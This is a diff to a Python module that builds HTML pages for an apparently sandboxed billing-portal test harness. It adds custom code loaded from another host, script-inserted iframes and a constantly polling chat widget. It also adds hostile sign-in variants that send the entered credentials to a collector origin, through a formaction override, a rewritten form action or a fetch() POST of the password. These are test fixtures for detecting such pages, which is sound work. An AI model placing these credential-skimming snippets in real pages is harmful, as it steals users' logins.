@@ -1,5 +1,7 @@
-"""The sandbox portal's pages, as HTML: the sign-in form, pages with the biller's custom code
-(in the markup, added by a script after load, or only in a comment), and pages hosting iFrames.
+"""The sandbox portal's pages, as HTML: the sign-in form (and its hostile variants, which send
+the credentials elsewhere), pages with the biller's custom code (in the markup, added by a
+script after load, loaded from another host, or only in a comment), and pages hosting iFrames
+(in the markup or added by a script), with a chat widget that never lets the network go idle.
 
 Every value from a biller file is escaped: a rehearsal's pages run in a real browser.
 """
@@ -15,6 +17,11 @@ from conversion_qa.contract import portal
 from conversion_qa.rules import selectors
 
 ASSETS = "/assets/custom-code"  # + the page's path: what a script fetches and adds after load
+POLL = "/assets/chat/poll"  # what the never-idle chat widget asks, every POLL_MS
+POLL_MS = 250
+COLLECT = "/collect"  # where a hostile page sends what it took, on the collector's host
+# How a hostile sign-in page sends the credentials elsewhere (sandbox scenarios of the same name)
+HOSTILE_SIGN_INS = ("sign-in-formaction", "sign-in-action-changed", "sign-in-fetch")
 
 _STYLE = (
     "body { font-family: sans-serif; margin: 2em; } .custom-code { background: #fff3c4; "
@@ -31,18 +38,44 @@ def document(title: str, body: str, signed_in: bool) -> str:
     )
 
 
-def sign_in_form(biller: Biller, message: str = "") -> str:
-    """The form the contract assumes (contract/portal.py): user name, password, submit."""
+def sign_in_form(biller: Biller, message: str = "", hostile: str = "", collector: str = "") -> str:
+    """The form the contract assumes (contract/portal.py): user name, password, submit. A
+    hostile one (HOSTILE_SIGN_INS) sends the credentials to collector, an https origin."""
     note = f"<p class='error'>{escape(message)}</p>" if message else ""
+    elsewhere = collector + COLLECT
+    button = (
+        f"<button type='submit' formaction='{escape(elsewhere)}'>Sign in</button>"
+        if hostile == "sign-in-formaction"
+        else "<button type='submit'>Sign in</button>"
+    )
+    script = {
+        "sign-in-action-changed": "password.addEventListener('input', () => "
+        f"{{ password.form.action = {_script_value(elsewhere)}; }});",
+        "sign-in-fetch": "password.addEventListener('input', () => "
+        f"fetch({_script_value(elsewhere)}, {{method: 'POST', mode: 'no-cors', "
+        "body: password.value}).catch(() => {}));",
+    }.get(hostile, "")
+    scripts = (
+        f"<script>const password = document.querySelector('input[name=password]');{script}</script>"
+        if script
+        else ""
+    )
     body = (
         f"<h1>{escape(biller.name)}: sign in</h1>{note}"
         f"<form method='post' action='{portal.SIGN_IN_PATH}'>"
         "<label>User name <input name='username' autocomplete='username'></label><br>"
         "<label>Password <input name='password' type='password' "
         "autocomplete='current-password'></label><br>"
-        "<button type='submit'>Sign in</button></form>"
+        f"{button}</form>{scripts}"
     )
     return document(f"{biller.name}: sign in", body, signed_in=False)
+
+
+def _script_value(value: object) -> str:
+    """A value as a JavaScript literal inside a <script> element: JSON, with <, > and &
+    escaped, so that no value closes the element."""
+    text = json.dumps(value)
+    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
 
 
 def landing(biller: Biller, signed_in: bool) -> str:
@@ -71,10 +104,15 @@ def portal_page(
     *,
     how: str,
     signed_in: bool,
+    frames_by_script: bool = False,
+    polling: bool = False,
+    elsewhere: str = "",
 ) -> str:
     """A page with its custom code shown `how`: "markup", "script" (added after load from
-    ASSETS + path) or "comment" (the expect: text items only inside an HTML comment), and the
-    iFrames it hosts."""
+    ASSETS + path), "elsewhere" (added by a script loaded from the URL `elsewhere`) or "comment"
+    (the expect: text items only inside an HTML comment); the iFrames it hosts, in its markup
+    or added by a script after load (frames_by_script); and, polling, a chat widget that asks
+    POLL every POLL_MS, so that the network never goes idle."""
     parts = [f"<h1>{escape(biller.name)}</h1>"]
     if how == "markup":
         parts += [shown(code) for code in codes]
@@ -83,24 +121,55 @@ def portal_page(
             f"<!-- {shown(code).replace('--', '- -')} -->" if code.expect else shown(code)
             for code in codes
         ]
+    elif how == "elsewhere" and codes:
+        parts.append(f"<div id='custom-code'></div><script src='{escape(elsewhere)}'></script>")
     elif codes:
-        asset = json.dumps(ASSETS + path)
         parts.append(
             "<div id='custom-code'></div><script>window.addEventListener('load', () => "
-            f"fetch({asset}).then(r => r.text()).then(h => "
+            f"fetch({_script_value(ASSETS + path)}).then(r => r.text()).then(h => "
             "{ document.getElementById('custom-code').innerHTML = h; }));</script>"
         )
-    parts += [
-        f"<iframe src='{escape(frame.path)}' title='{escape(frame.name)}' width='800' "
-        "height='240'></iframe>"
-        for frame in frames
-    ]
+    if frames_by_script and frames:
+        wanted = [{"src": frame.path, "title": frame.name} for frame in frames]
+        parts.append(
+            "<div id='frames'></div><script>window.addEventListener('load', () => "
+            f"fetch({_script_value(ASSETS + path)}).then(() => {{ "
+            f"for (const f of {_script_value(wanted)}) {{ "
+            "const e = document.createElement('iframe'); e.src = f.src; e.title = f.title; "
+            "e.width = 800; e.height = 240; document.getElementById('frames').append(e); "
+            "} }));</script>"
+        )
+    else:
+        parts += [
+            f"<iframe src='{escape(frame.path)}' title='{escape(frame.name)}' width='800' "
+            "height='240'></iframe>"
+            for frame in frames
+        ]
+    if polling:
+        parts.append(
+            "<aside class='chat'>Chat with us</aside><script>setInterval(() => "
+            f"fetch({_script_value(POLL)}, {{cache: 'no-store'}}).catch(() => {{}}), "
+            f"{POLL_MS});</script>"
+        )
     return document(f"{biller.name}: {path}", "\n".join(parts), signed_in)
 
 
 def injected(codes: Sequence[CustomCode]) -> str:
     """What the script of a "script" page adds after load."""
     return "\n".join(shown(code) for code in codes)
+
+
+def elsewhere_script(codes: Sequence[CustomCode]) -> str:
+    """The script another host serves that adds the custom code (custom-code-off-portal)."""
+    return f"document.getElementById('custom-code').innerHTML = {_script_value(injected(codes))};"
+
+
+def error_page(status: int, title: str) -> str:
+    """A server's error page, as the customer would see it in the portal."""
+    return (
+        f"<!DOCTYPE html><html><head><title>{escape(title)}</title></head><body>"
+        f"<h1>Server Error</h1><h2>{status} - {escape(title)}</h2></body></html>"
+    )
 
 
 def frame_document(frame: Iframe) -> str:
